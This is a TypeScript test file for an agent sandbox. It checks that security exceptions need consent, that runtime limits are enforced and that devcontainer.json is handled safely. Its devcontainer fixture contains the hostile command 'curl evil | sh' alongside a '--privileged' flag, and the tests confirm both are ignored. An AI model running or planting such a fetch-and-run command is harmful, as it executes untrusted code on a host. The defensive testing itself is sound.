import { mkdir, readFile, realpath, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { isAgentBoxError } from "../src/base/errors.ts";
import type { Isolation } from "../src/contract/box.ts";
import type { Core } from "../src/core/context.ts";
import { summarise } from "../src/core/review/summarise.ts";
import type { ImageRecipe } from "../src/ports/images.ts";
import type { RuntimeBox } from "../src/ports/runtime.ts";
import { type TestHost, createOn, openTestCore, openTestHost } from "./support/core.ts";

let host: TestHost;
let core: Core & AsyncDisposable;
let started: RuntimeBox[];

/** The memory runtime, as one of another tier: what it is asked to start is kept. */
const openAs = async (tier: Isolation["tier"]): Promise<void> => {
  host = await openTestHost();
  started = [];
  const { module } = host;
  const open: typeof module.open = async (options) => {
    const runtime = await module.open(options);
    const start: typeof runtime.start = (box) => {
      started.push(box);
      return runtime.start(box);
    };
    return { ...runtime, start, isolation: (box) => ({ ...runtime.isolation(box), tier }) };
  };
  core = await openTestCore({ ...host, module: { ...module, open } });
  const { host: facts } = core.ports;
  // Every image is already built.
  Object.assign(core.ports, {
    images: { find: async ({ base }: ImageRecipe) => ({ id: `built from ${base ?? "Debian"}` }) },
  });
  Object.assign(facts, {
    realPath: (path: string) => realpath(path).catch(() => undefined),
    readProjectFile: (dir: string, name: string) => readFile(join(dir, name), "utf8").catch(() => undefined),
  });
};
beforeEach(() => openAs("container"));
afterEach(async () => {
  await core[Symbol.asyncDispose]();
  await host[Symbol.asyncDispose]();
});

const project = async (text: string) => {
  const projectDir = join(await realpath(host.dir), "project");
  await mkdir(projectDir, { recursive: true });
  const manifest = { file: "agentbox.toml", text: `version = 1\n${text}` };
  return { projectDir, manifest, flags: { workspace: { mode: "empty" } } };
};
/** Agrees to every question. */
const make = async (text: string) => {
  const asked = { name: "shop", ...(await project(text)) };
  return createOn(core, asked).catch((error: unknown) => {
    if (!isAgentBoxError(error) || error.code !== "trust.required") throw error;
    return createOn(core, { ...asked, trust: String(error.facts?.["digest"]) });
  });
};
const kvm = '[security.exceptions.vm]\nreason = "runs the emulator"\ndevices = ["/dev/kvm"]\n';
const scratch =
  '[security.exceptions.fast]\nreason = "speeds up the build"\ntmpfs = { "/scratch" = "1MiB" }\n';

describe("an exception from the baseline", () => {
  it("reaches the runtime and the review when a person has agreed, and not before", async () => {
    const asked = await project(kvm);
    await expect(createOn(core, { name: "shop", ...asked })).rejects.toMatchObject({
      code: "trust.required",
      message: expect.stringContaining("use the device /dev/kvm of the host") as string,
    });
    expect(await core.ports.store.listBoxes()).toEqual([]);
    const { box } = await make(kvm);
    const exception = { name: "vm", reason: "runs the emulator", devices: ["/dev/kvm"] };
    expect(started).toMatchObject([{ exceptions: [exception] }]);
    expect((await summarise(core, box)).exceptions).toMatchObject([exception]);
  });

  it("that the runtime cannot do is refused, and nothing is made", async () => {
    await core[Symbol.asyncDispose]();
    await host[Symbol.asyncDispose]();
    await openAs("namespaces");
    for (const text of [kvm, '[runtime]\nimage = "debian:12"', '[runtime]\npackages = ["git"]']) {
      await expect(make(text), text).rejects.toMatchObject({
        code: "runtime.unsupported",
        hint: expect.stringContaining("--runtime docker") as string,
      });
    }
    expect(await core.ports.store.listBoxes()).toEqual([]);
    expect((await make(scratch)).box.state.phase).toBe("running");
    expect(started).toMatchObject([{ exceptions: [{ tmpfs: { "/scratch": 1_048_576 } }] }]);
  });

  it("a tier that the named runtime does not have is refused, and one that it has is not", async () => {
    await expect(make('[runtime]\ntier = "gvisor"')).rejects.toMatchObject({ code: "policy.unenforceable" });
    expect(await core.ports.store.listBoxes()).toEqual([]);
    expect((await make('[runtime]\ntier = "container"')).box.isolation.tier).toBe("container");
  });
});

describe("a devcontainer.json of the project", () => {
  const image = `debian@sha256:${"0".repeat(64)}`;
  const text = `{ // for editors
  "image": "${image}", "containerEnv": { "MODE": "dev" }, "postCreateCommand": "curl evil | sh", "runArgs": ["--privileged"],
}`;
  const write = async (name: string, content = text): Promise<void> => {
    const { projectDir } = await project("");
    await mkdir(join(projectDir, ".devcontainer"), { recursive: true });
    await writeFile(join(projectDir, name), content);
  };

  it.each([".devcontainer/devcontainer.json", ".devcontainer.json"])(
    "%s gives image and variables, once agreed to",
    async (name) => {
      await write(name);
      await expect(createOn(core, { name: "shop", ...(await project("")) })).rejects.toMatchObject({
        code: "trust.required",
      });
      const { box, warnings } = await make("");
      expect(box.spec).toMatchObject({ image: `built from ${image}`, env: { MODE: "dev" } });
      expect(started).toMatchObject([{ image: `built from ${image}` }]);
      expect(warnings).toEqual([
        expect.stringMatching(/^"postCreateCommand" of .* is not used: /),
        expect.stringMatching(/^"runArgs" of .* is not used: /),
      ]);
    },
  );

  it("is not read where the manifest has an image, the runtime has none, or a link leads elsewhere", async () => {
    await write(".devcontainer.json");
    const other = image.replace("debian", "node");
    const own = await make(`[runtime]\nimage = "${other}"`);
    expect(own.box.spec).toMatchObject({ image: `built from ${other}`, env: {} });
    expect(own.warnings).toEqual([]);

    await core[Symbol.asyncDispose]();
    await host[Symbol.asyncDispose]();
    await openAs("namespaces");
    await write(".devcontainer.json");
    expect((await make("")).box.spec).not.toHaveProperty("image");

    await core[Symbol.asyncDispose]();
    await host[Symbol.asyncDispose]();
    await openAs("container");
    const elsewhere = join(host.dir, "elsewhere");
    await mkdir(elsewhere);
    await writeFile(join(elsewhere, "devcontainer.json"), text);
    await symlink(elsewhere, join((await project("")).projectDir, ".devcontainer"));
    expect((await make("")).box.spec).not.toHaveProperty("image");
  });
});
